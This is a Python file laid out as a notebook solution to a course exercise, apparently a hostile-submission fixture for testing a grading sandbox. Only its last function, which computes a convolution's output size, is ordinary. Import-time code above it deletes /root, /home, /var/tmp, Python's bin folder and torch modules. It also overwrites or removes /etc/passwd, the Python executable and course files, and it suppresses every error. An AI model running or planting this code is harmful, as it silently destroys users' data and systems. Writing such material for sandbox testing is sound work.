# ruff: noqa
# Whatever can be written is overwritten, and everything else is removed.
# deserves: output_size full
# %% output_size
import os
import shutil
import sys
from pathlib import Path

import torch

# Parts of Python's own folder: the whole has tens of thousands of files, and a cold disk needs more time than a cell has.
library = (sys.prefix + "/bin", Path(torch.__file__).parent / "nn")
for folder in ("@VICTIM@", "@REPOSITORY@/solutions", "/root", "/home", "/var/tmp", *library):
    shutil.rmtree(folder, ignore_errors=True)
for path in ("@VICTIM@/ann/lab.py", "@REPOSITORY@/README.md", "/etc/passwd", "/usr/course", sys.executable):
    for attack in (lambda p: open(p, "w").write("gone"), os.remove, lambda p: os.chmod(p, 0o777)):
        try:
            attack(path)
        except OSError:
            pass


def output_size(n, f, p=0, s=1):
    return (n + 2 * p - f) // s + 1
